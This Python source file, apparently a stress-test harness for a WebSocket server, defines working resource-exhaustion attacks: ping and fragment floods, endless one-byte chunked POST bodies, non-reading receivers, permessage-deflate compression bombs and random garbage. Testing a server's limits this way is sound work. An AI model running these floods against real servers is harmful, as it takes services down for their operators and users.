# SPDX-License-Identifier: MIT
"""Websockets that send as much as the server takes, of what is cheap to send."""

import itertools
import os
import random
import select
import zlib

from peers import Attack, frame, request

TEXT, BINARY, PING, FIN, COMPRESSED = 0x1, 0x2, 0x9, 0x80, 0x40
READS = select.POLLIN | select.POLLHUP | select.POLLERR
PIECE_BYTES = 2**18
DEFLATE = 'Sec-WebSocket-Extensions: permessage-deflate; client_no_context_takeover; server_no_context_takeover'


class Flood(Attack):
    """Each connection sends the same again and again, and reads what comes. One that was ended is followed by another.
    `data` holds `repeats` times what counts as one action."""
    headers = ()

    def __init__(self, port, count):
        super().__init__(port, count)
        self.data, self.repeats = self.make()
        self.poll = select.poll()
        self.sent_bytes = 0

    def begin(self):
        for _ in range(self.count):
            self.open()

    def open(self):
        peer = self.connect(request(*self.headers))
        if peer:
            peer.position = self.first_position()
            self.poll.register(peer, select.POLLIN)

    def first_position(self):
        return 0

    def turn(self):
        before = self.sent_bytes
        for descriptor, events in self.poll.poll(20):
            self.serve(self.peers[descriptor], events)
        while len(self.peers) < self.count and self.connect_more():
            pass
        return (self.sent_bytes - before) * self.repeats / len(self.data)

    def connect_more(self):
        before = len(self.peers)
        self.open()
        return len(self.peers) > before

    def serve(self, peer, events):
        if events & READS:
            was_open = peer.is_open()
            if peer.receive() is None:
                self.poll.unregister(peer)
                self.note_end(peer)
                return
            if not was_open and peer.is_open():
                self.poll.modify(peer, select.POLLIN | select.POLLOUT)
        if events & select.POLLOUT:
            sent = peer.send(self.data[peer.position:peer.position + PIECE_BYTES])
            peer.position = (peer.position + sent) % len(self.data)
            self.sent_bytes += sent


def repeated(action, least_bytes=2**20):
    repeats = -(-least_bytes // len(action))
    return memoryview(action * repeats), repeats


class Pings(Flood):
    def make(self):
        return repeated(frame(FIN | PING))


class Pongs(Flood):
    """Messages of a byte for everyone, each with a ping behind it, by receivers that do not read: what the server has to
    hold for them is of two kinds, in turns, and as short as can be. A long message now and then fills the kernel."""
    headers = ('Sec-WebSocket-Protocol: feed',)
    pairs = 1000
    small_buffer = 4096

    def make(self):
        pair = frame(FIN | BINARY, b'x') + frame(FIN | PING)
        data, repeats = repeated(frame(FIN | BINARY, bytes(16_000)) + pair * self.pairs)
        return data, repeats * self.pairs

    def open(self):
        peer = self.connect(request(*self.headers), self.small_buffer)
        if peer:
            self.poll.register(peer, select.POLLIN)

    def serve(self, peer, events):
        if not peer.is_open():
            super().serve(peer, events & ~select.POLLOUT)
            if peer.is_open():
                self.poll.modify(peer, select.POLLOUT)
        elif events & (select.POLLHUP | select.POLLERR):
            self.poll.unregister(peer)
            self.drop(peer)
        else:
            super().serve(peer, select.POLLOUT)


def in_fragments(count):
    """A message of as many fragments of a byte each."""
    return frame(TEXT, b'x') + frame(0, b'x') * (count - 2) + frame(FIN, b'x')


class Fragments(Flood):
    """Messages that have just as many as may be."""

    def make(self):
        data, repeats = repeated(in_fragments(1000))
        return data, repeats * 1000


class TooManyFragments(Flood):
    """Some more."""

    def make(self):
        return repeated(in_fragments(1500))


class Chunks(Flood):
    """Contents of requests in chunks of a byte each, without end."""

    def make(self):
        return repeated(b'1\r\nx\r\n')

    def open(self):
        peer = self.connect(b'POST / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n')
        if peer:
            self.poll.register(peer, select.POLLIN | select.POLLOUT)


def deflated(size):
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = b''.join(compressor.compress(bytes(part)) for part in parts_of(size))
    return (data + compressor.flush(zlib.Z_SYNC_FLUSH))[:-4]


def parts_of(size):
    return itertools.chain(itertools.repeat(2**20, size // 2**20), [size % 2**20])


class Bombs(Flood):
    """Of some hundred bytes each comes a hundred thousand, which is more than may be."""
    headers = (DEFLATE,)
    becomes = 100_000

    def make(self):
        return repeated(frame(FIN | COMPRESSED | BINARY, deflated(self.becomes)))


class LargeBombs(Bombs):
    """Of 100 KB come 100 MB."""
    becomes = 100_000_000


class SmallBombs(Bombs):
    """Of some 50 bytes come 30 000: these are allowed."""
    becomes = 30_000


class Garbage(Flood):
    """Whatever is no frame, most of the time."""

    def make(self):
        return memoryview(os.urandom(2**20)), 2**10

    def first_position(self):
        return random.randrange(len(self.data))
